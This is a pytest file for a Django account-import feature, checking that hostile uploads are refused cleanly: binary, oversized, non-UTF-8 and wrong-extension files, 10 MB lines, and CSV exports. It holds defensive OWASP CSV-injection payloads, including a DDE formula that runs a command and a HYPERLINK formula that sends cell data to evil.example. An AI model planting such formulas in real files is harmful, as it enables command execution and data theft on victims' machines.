"""Hostile upload files, through every way in (admin load page, `load_accounts`, the bulk API).

The invariant ("Bad input anywhere gets a clear error and changes nothing", docs/RELIABILITY.md): never a
5xx, never a traceback, the pool (Account rows) unchanged except for lines that were really valid,
and an error message that says what was wrong.
"""

import csv
import io
import json
import re
import sys

import pytest
from django import forms
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.urls import reverse
from django.utils import timezone, translation

from accounts import api
from accounts import forms as load_forms
from accounts.models import Account, AccountBatch, AccountStatus, BatchStatus
from accounts.parser import MSG_LINE_TOO_LONG
from devtools import fakes
from tests.support.commands import run_command

pytestmark = pytest.mark.django_db

LOAD_URL = reverse("admin:accounts_account_load")
BULK_URL = reverse("api-account-bulk")
EXPORT_URL = reverse("admin:webhooks_importattempt_export")

MB = 1024 * 1024
TEN_MB_LINE = "A" * (10 * MB)
# In English, as the tests ask for (at import no language is active yet: it would be the default).
with translation.override("en"):
    LINE_TOO_LONG = str(MSG_LINE_TOO_LONG % {"limit": 16384})

# OWASP "CSV injection" payloads: each would run as a formula if a spreadsheet opened it raw.
INJECTIONS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1,1)",
    "-2+3",
    '@HYPERLINK("http://evil.example/?x="&A1,"click")',
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def preview_url(batch):
    return reverse("admin:accounts_account_load_preview", args=[batch.pk])


def pool():
    """The pool as a comparable snapshot: every account row and its status."""
    return dict(Account.objects.values_list("pk", "status"))


def binary_bytes(rng, size=4096):
    data = bytearray(rng.randbytes(size))
    data[size // 2] = 0  # at least one NUL, whatever the seed
    return bytes(data)


def rows_by_line(html):
    return {
        int(n): cls for cls, n in re.findall(r'<tr class="outcome-(\w+)" data-line="(\d+)"', html)
    }


def assert_refused(response, message, before):
    """A clear form error on the load page; nothing staged, nothing in the pool changed."""
    assert response.status_code == 200  # the form again, with its error: never a 5xx
    assert str(message) in response.content.decode()
    assert not AccountBatch.objects.exists()
    assert pool() == before


# --- Admin load page ------------------------------------------------------------------------


def test_admin_refuses_a_binary_file(admin_client, rng):
    before = pool()
    response = admin_client.post(
        LOAD_URL, {"file": SimpleUploadedFile("spare.txt", binary_bytes(rng))}
    )
    assert_refused(response, load_forms.MSG_NOT_TEXT, before)


def test_admin_refuses_a_50_mb_file_unread(admin_client):
    """The real limit (20 MB) and a real 50 MB file: refused by size, nothing staged."""
    before = pool()
    upload = SimpleUploadedFile("spare.txt", b"a@example.com----eyJ\n" * (50 * MB // 21 + 1))
    assert upload.size > 50 * MB
    response = admin_client.post(LOAD_URL, {"file": upload})
    assert_refused(response, load_forms.MSG_TOO_BIG % {"limit": "20.0\xa0MB"}, before)


def test_admin_previews_a_10_mb_line_as_too_long_and_saves_nothing_of_it(
    admin_client, material, worker
):
    good, other = material(), material()
    text = "\n".join(
        [
            fakes.render_line(good, "positional"),
            TEN_MB_LINE,
            fakes.render_line(other, "delimited-dash"),
        ]
    )
    before = pool()
    response = admin_client.post(
        LOAD_URL, {"file": SimpleUploadedFile("big-line.txt", text.encode())}
    )
    assert response.status_code == 302
    batch = AccountBatch.objects.get()

    worker()
    preview = admin_client.get(response.url)
    html = preview.content.decode()
    assert preview.status_code == 200
    assert rows_by_line(html) == {1: "created", 2: "invalid", 3: "created"}
    assert LINE_TOO_LONG in html
    assert TEN_MB_LINE[:16384] not in html  # the line is not echoed back
    assert pool() == before  # the preview saves nothing

    done = admin_client.post(preview_url(batch), {"confirm": "1"})
    assert done.status_code == 302
    worker()
    created = Account.objects.exclude(pk__in=before)
    assert sorted(created.values_list("email", flat=True)) == sorted(
        [good["email"], other["email"]]
    )
    batch.refresh_from_db()
    assert (batch.status, batch.created_count, batch.invalid_count) == (BatchStatus.LOADED, 2, 1)


@pytest.mark.parametrize("label", INJECTIONS)
def test_admin_csv_injection_lines_are_invalid_and_stored_text_is_neutralised_in_exports(
    admin_client, material, label, worker
):
    """Formula lines are refused; what is stored (label, an email that is a valid address, notes)
    comes out of the CSV exports starting with a single quote."""
    formula_email = "=1+2@example.com"  # a valid address (RFC 5322 atext), so it is stored
    account = material(email=formula_email)
    text = "\n".join([*INJECTIONS, fakes.render_line(account, "positional")])
    before = pool()
    response = admin_client.post(
        LOAD_URL, {"file": SimpleUploadedFile("inject.csv", text.encode()), "label": label}
    )
    assert response.status_code == 302
    worker()
    preview = admin_client.get(response.url)
    assert preview.status_code == 200
    expected = {
        **{n: "invalid" for n in range(1, len(INJECTIONS) + 1)},
        len(INJECTIONS) + 1: "created",
    }
    assert rows_by_line(preview.content.decode()) == expected
    batch = AccountBatch.objects.get()
    assert admin_client.post(preview_url(batch), {"confirm": "1"}).status_code == 302
    worker()
    problems = admin_client.get(reverse("admin:accounts_account_load_problems", args=[batch.pk]))
    for row in csv.reader(io.StringIO(b"".join(problems.streaming_content).decode())):
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (
                f"formula cell in the problem list: {cell!r}"
            )
    stored = Account.objects.exclude(pk__in=before).get()
    assert (stored.email, stored.batch.label) == (formula_email, label)

    # Staff write a formula into the notes too (the admin change form).
    change = admin_client.post(
        reverse("admin:accounts_account_change", args=[stored.pk]), {"notes": label}
    )
    assert change.status_code == 302
    # The manager confirmed it: it is now in the consumed-accounts export, with its batch label.
    Account.objects.filter(pk=stored.pk).update(
        status=AccountStatus.CONSUMED, consumed_at=timezone.now()
    )

    today = timezone.localdate().isoformat()
    export = admin_client.get(EXPORT_URL, {"what": "consumed", "first": today, "last": today})
    assert export.status_code == 200 and export["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode("utf-8-sig"))))
    header, data = rows[0], rows[1:]
    assert len(data) == 1
    row = dict(zip(header, data[0]))
    assert row["email"] == "'" + formula_email
    assert row["batch"] == "'" + label
    for cell in data[0]:
        assert not cell.startswith(FORMULA_STARTS), f"formula cell in export: {cell!r}"

    attempts = admin_client.get(EXPORT_URL, {"what": "attempts", "first": today, "last": today})
    assert attempts.status_code == 200
    b"".join(attempts.streaming_content)


def test_admin_refuses_latin_1_text(admin_client):
    before = pool()
    upload = SimpleUploadedFile("spare.txt", "josé@example.com,ü,ä\n".encode("latin-1"))
    assert_refused(admin_client.post(LOAD_URL, {"file": upload}), load_forms.MSG_NOT_UTF8, before)


@pytest.mark.parametrize("name", ["spare.exe", "spare.txt.exe", "spare.xlsx", "spare", ".htaccess"])
def test_admin_refuses_a_wrong_extension(admin_client, material, name):
    before = pool()
    upload = SimpleUploadedFile(name, fakes.render_line(material(), "positional").encode())
    assert_refused(
        admin_client.post(LOAD_URL, {"file": upload}), load_forms.MSG_BAD_EXTENSION, before
    )


def test_admin_refuses_an_empty_file(admin_client):
    """Django's FileField refuses a 0-byte file before the form's own "nothing given" check."""
    before = pool()
    response = admin_client.post(LOAD_URL, {"file": SimpleUploadedFile("spare.txt", b"")})
    assert_refused(response, forms.FileField.default_error_messages["empty"], before)


def test_admin_refuses_a_whitespace_only_file(admin_client):
    before = pool()
    response = admin_client.post(
        LOAD_URL, {"file": SimpleUploadedFile("spare.txt", b"  \n\t\r\n   \n")}
    )
    assert_refused(response, load_forms.MSG_NOTHING_GIVEN, before)


# --- manage.py load_accounts ----------------------------------------------------------------


def test_command_refuses_a_binary_file_as_the_admin_does_and_saves_nothing(tmp_path, rng):
    path = tmp_path / "spare.txt"
    one_line = [
        binary_bytes(rng, size).replace(b"\r", b".").replace(b"\n", b".") for size in (4096, 512)
    ]
    path.write_bytes(b"\n".join(one_line))  # two lines of random bytes with NULs
    before = pool()
    with pytest.raises(CommandError) as refused:
        run_command(str(path))
    assert str(refused.value) == f"{path}: {load_forms.MSG_NOT_TEXT}"
    assert pool() == before


@pytest.mark.parametrize(
    "bad, message",
    [(b"\x00", load_forms.MSG_NOT_TEXT), (b"\xff\xfe", load_forms.MSG_NOT_UTF8)],
    ids=["nul", "not-utf8"],
)
@pytest.mark.parametrize("given_as", ["file", "stdin"])
def test_command_refuses_a_file_whose_last_line_is_not_text_before_loading_any_line(
    tmp_path, material, bad, message, given_as
):
    """Checked whole first: the good lines before the bad byte are not loaded either (the old
    command replaced bad bytes and loaded every line but that one)."""
    good = [fakes.render_line(material(), "positional") for _ in range(3)]
    path = tmp_path / "spare.txt"
    path.write_bytes("\n".join(good).encode() + b"\nlast line " + bad + b"\n")
    before = pool()
    with pytest.raises(CommandError) as refused:
        if given_as == "file":
            run_command(str(path))
        else:
            old_stdin = sys.stdin
            sys.stdin = path.open()
            try:
                call_command("load_accounts", "-", stdout=io.StringIO(), stderr=io.StringIO())
            finally:
                sys.stdin.close()
                sys.stdin = old_stdin
    assert str(message) in str(refused.value)
    assert pool() == before


def test_command_drops_a_byte_order_mark_as_the_admin_does(tmp_path, material):
    account = material()
    path = tmp_path / "bom.txt"
    path.write_bytes(b"\xef\xbb\xbf" + fakes.render_line(account, "positional").encode() + b"\n")
    status, out, err = run_command(str(path))
    assert status == 0, out + err
    assert Account.objects.filter(email=account["email"]).exists()


def test_command_reports_a_10_mb_line_invalid_and_loads_the_rest(tmp_path, material):
    good, other = material(), material()
    path = tmp_path / "big-line.txt"
    lines = [
        fakes.render_line(good, "positional"),
        TEN_MB_LINE,
        fakes.render_line(other, "positional"),
    ]
    path.write_text("\n".join(lines) + "\n")
    before = pool()
    status, out, err = run_command(str(path))
    assert status == 1
    assert "Traceback" not in out + err
    assert f"line 2: invalid: {LINE_TOO_LONG}" in out
    assert TEN_MB_LINE[:16384] not in out + err
    assert "2 created, 0 duplicate, 1 invalid" in out
    created = Account.objects.exclude(pk__in=before)
    assert sorted(created.values_list("email", flat=True)) == sorted(
        [good["email"], other["email"]]
    )


# --- POST /api/accounts/bulk/ ---------------------------------------------------------------


@pytest.mark.parametrize("content_type", ["text/plain", "application/json"])
def test_api_refuses_an_oversized_body(admin_client, content_type):
    """Just over the real 20 MB limit: 400 with the API's own message, nothing saved."""
    before = pool()
    text = "a@example.com----eyJ\n" * (20 * MB // 21 + 2)
    body = text if content_type == "text/plain" else json.dumps({"text": text})
    assert len(body) > 20 * MB
    response = admin_client.post(BULK_URL, body, content_type=content_type)
    assert response.status_code == 400
    assert response.json() == {"detail": str(api.MSG_TOO_BIG % {"limit": "20.0\xa0MB"})}
    assert not AccountBatch.objects.exists()
    assert pool() == before


def test_api_refuses_a_50_mb_body(admin_client):
    """Past Django's own DATA_UPLOAD_MAX_MEMORY_SIZE too: still the API's clear 400."""
    before = pool()
    response = admin_client.post(BULK_URL, b"x" * (50 * MB), content_type="text/plain")
    assert response.status_code == 400
    assert response.json() == {"detail": str(api.MSG_TOO_BIG % {"limit": "20.0\xa0MB"})}
    assert not AccountBatch.objects.exists()
    assert pool() == before


@pytest.mark.parametrize(
    "kind, message",
    [("binary", api.MSG_NOT_TEXT), ("latin-1", api.MSG_NOT_UTF8)],
)
def test_api_refuses_binary_and_non_utf8_bodies(admin_client, rng, kind, message):
    body = binary_bytes(rng) if kind == "binary" else "josé@example.com,ü\n".encode("latin-1")
    before = pool()
    response = admin_client.post(BULK_URL, body, content_type="text/plain")
    assert response.status_code == 400
    assert response.json() == {"detail": str(message)}
    assert not AccountBatch.objects.exists()
    assert pool() == before


@pytest.mark.parametrize("content_type", ["text/plain", "application/json"])
def test_api_reports_a_10_mb_line_invalid(admin_client, material, content_type, worker):
    good = material()
    text = "\n".join([fakes.render_line(good, "positional"), TEN_MB_LINE])
    body = text if content_type == "text/plain" else json.dumps({"text": text})
    before = pool()
    response = admin_client.post(BULK_URL, body, content_type=content_type)
    assert response.status_code == 202
    worker()
    status = admin_client.get(response.json()["status_url"])
    result = status.json()
    assert (result["created"], result["invalid"]) == (1, 1)
    assert [(line["line"], line["outcome"], line["messages"]) for line in result["lines"]] == [
        (2, "invalid", [LINE_TOO_LONG])
    ]
    assert TEN_MB_LINE[:16384] not in status.content.decode()
    assert list(Account.objects.exclude(pk__in=before).values_list("email", flat=True)) == [
        good["email"]
    ]
